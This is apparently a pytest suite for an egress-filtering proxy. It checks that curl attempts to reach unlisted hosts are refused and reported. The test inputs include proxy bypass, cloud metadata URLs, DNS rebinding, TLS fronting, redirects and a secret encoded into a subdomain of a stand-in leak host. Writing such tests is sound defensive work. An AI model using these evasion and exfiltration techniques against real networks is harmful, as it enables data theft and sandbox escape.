"""Promise: Egress.
Attacker: a tool, or the repository that it works on, that may reach one host through the proxy.
Means: the proxy itself. Other hosts, addresses instead of names, names that resolve to private
addresses or change their address, a host that redirects to another, TLS to another host through a
tunnel to the right one, secrets in names that are looked up.

Expected: the other host gets nothing, the resolver gets no query for a name that is not listed,
and each attempt is reported to the caller.
"""
import pytest


def refused(way, *argv, reason, asked=(), names=(), **shape):
    """The tool fails, for this reason; and these are all who heard of it."""
    answer = way.fails("curl", "-sS", "--fail", "--max-time", "8", *argv, **shape)
    received = way.network.take()
    assert not [line for line in received["asked"] if line.split(":")[0].split(" ")[0] not in asked], received
    assert set(received["names"]) <= set(names), received
    events = way.events(answer, "refused")
    assert events and {event["reason"] for event in events} == {reason}, (events, answer.document)
    assert answer["egress"]["refused"] == len(events)
    return events[0]


@pytest.mark.parametrize("url", ["https://other.example.org/", "http://other.example.org/", "https://web.example.net/",
                                 "https://web.example.org.example.net/", "https://example.org/", "http://weB.example.orG.x/"])
def test_another_host_is_refused(way, url):
    event = refused(way, url, reason="not_listed")
    assert event["host"] == url.split("/")[2].lower() and event["address"] == ""


def test_another_host_is_reached_where_it_is_listed(way):
    """That the test above is about something."""
    answer = way.succeeds("curl", "-sS", "https://other.example.org/", egress=["*.example.org"])
    assert answer.stream("stdout") == b"a word from other.example.org"


def test_another_port_is_refused(way):
    refused(way, "https://web.example.org:8443/", egress=["web.example.org:443"], reason="not_listed")


@pytest.mark.parametrize("url", ["https://93.184.216.10/", "http://93.184.216.10/", "http://[::ffff:93.184.216.10]/",
                                 "http://127.0.0.1/", "http://169.254.169.254/latest/meta-data/", "http://[::1]/"])
def test_address_is_refused(way, url):
    answer = way.fails("curl", "-sS", "--fail", "--max-time", "8", url)
    assert way.network.take() == {"asked": [], "names": []}
    assert len(way.events(answer, "refused")) == 1


def test_proxy_cannot_be_left_out(way):
    answer = way.fails("curl", "-sS", "--noproxy", "*", "https://web.example.org/")
    assert b"resolve" in answer.stream("stderr")
    way.fails("curl", "-sS", "--noproxy", "*", "--resolve", "web.example.org:443:93.184.216.10", "https://web.example.org/")
    assert way.network.take() == {"asked": [], "names": []}


def test_there_is_no_resolver(way):
    way.fails("getent", "ahosts", "web.example.org")
    assert way.network.take()["names"] == []


def test_secret_in_a_name_does_not_leave(way):
    refused(way, "https://c2VjcmV0.leak.example.net/", reason="not_listed")
    refused(way, "--proxy", "socks5h://127.0.0.1:3128", "https://c2VjcmV0.leak.example.net/", reason="not_listed")


@pytest.mark.parametrize("url", ["https://web.example.org/redirect?https://other.example.org/",
                                 "http://web.example.org/redirect?http://other.example.org/"])
def test_redirect_to_another_host_is_refused(way, url):
    event = refused(way, "--location", url, reason="not_listed", asked=["web.example.org", "sni"], names=["web.example.org"])
    assert event["host"] == "other.example.org"


def test_name_in_tls_must_be_that_of_the_tunnel(way):
    """A front: the tunnel is to the listed host, and inside it another one is asked for."""
    to_web = ("--connect-to", "other.example.org:443:web.example.org:443")
    answer = way.fails("curl", "-sS", "--max-time", "8", *to_web, "https://other.example.org/")
    assert [event["reason"] for event in way.events(answer, "refused")] == ["sni"]
    assert not [line for line in way.network.take()["asked"] if line.startswith("sni") or "/" in line]
    way.fails("curl", "-sS", *to_web, "https://other.example.org/", egress=["web.example.org opaque"])


def test_tls_without_a_name_is_refused(way):
    args = ["curl", "-sS", "--max-time", "8", "--insecure", "https://93.184.216.10/"]
    answer = way.fails(*args, egress=["93.184.216.10"])
    assert [event["reason"] for event in way.events(answer, "refused")] == ["no_sni"]
    assert way.succeeds(*args, egress=["93.184.216.10 opaque"]).stream("stdout") == b"a word from web.example.org"


def test_what_is_not_tls_does_not_pass_a_tunnel(way):
    args = ["curl", "-sS", "--max-time", "8", "--proxytunnel", "http://web.example.org/"]
    answer = way.fails(*args)
    assert len(way.events(answer, "refused")) == 1
    assert not [line for line in way.network.take()["asked"] if "/" in line]
    assert way.succeeds(*args, egress=["web.example.org opaque"]).stream("stdout") == b"a word from web.example.org"


def test_host_must_be_that_of_the_request(way):
    answer = way.run("curl", "-sS", "--fail", "-H", "Host: other.example.org", "http://web.example.org/")
    assert answer.status != 0 and len(way.events(answer, "refused")) == 1
    assert not [line for line in way.network.take()["asked"] if "/" in line]


@pytest.mark.parametrize("name", ["inner", "meta", "self"])
def test_name_of_an_address_inside_is_refused(way, name):
    event = refused(way, f"https://{name}.example.org/", reason="address", egress=["*.example.org"],
                    names=[f"{name}.example.org"])
    assert event["address"] and event["rule"] == "*.example.org"


def test_address_inside_is_reached_where_it_is_listed(way):
    answer = way.succeeds("curl", "-sS", "https://inner.example.org/", egress=["inner.example.org", "10.1.2.3"])
    assert answer.stream("stdout") == b"a word from inner.example.org"


def test_name_that_changes_its_mind_is_refused(way):
    """Rebinding: what was looked at is what is dialled, so a second answer is looked at as the first was."""
    way.network.ask({"rebind.example.org": ["93.184.216.10", "127.0.0.1"]})
    args = ["--insecure", "https://rebind.example.org/"]
    way.succeeds("curl", "-sS", *args, egress=["rebind.example.org"])
    event = refused(way, *args, egress=["rebind.example.org"], reason="address", names=["rebind.example.org"])
    assert event["address"] == "127.0.0.1"
